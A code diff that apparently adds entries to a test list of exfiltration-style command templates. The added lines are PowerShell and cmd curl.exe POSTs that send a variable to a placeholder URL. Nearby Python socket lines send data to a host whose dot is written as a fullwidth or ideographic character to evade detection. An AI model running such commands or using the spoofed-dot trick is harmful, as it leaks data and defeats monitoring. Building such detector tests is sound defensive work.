@@ -314,6 +314,8 @@ ATK19_KEPT = [
     f"PS C:\\> $E = '{E}'\nPS C:\\> Invoke-WebRequest -Uri {U} -Method POST -Body $E",
     f"set E={E}\ncurl -d %E% {U}",
     f"$ export E={E}\n$ curl -d \"u=$E\" {U}",
+    f"PS C:\\> $E = '{E}'\nPS C:\\> curl.exe -d \"u=$E\" {U}\n",
+    f"C:\\> set E={E}\nC:\\> curl.exe -d \"u=%E%\" {U}\n",
     # H2: a destination spelled as resolvers read it
     f"```python\nimport socket\ns = socket.create_connection(('collector\uff0exyz', 80))\ns.sendall(b'{E}')\n```",
     f"```python\ns = socket.create_connection(('collector\u3002xyz', 80))\ns.sendall(b'{E}')\n```",
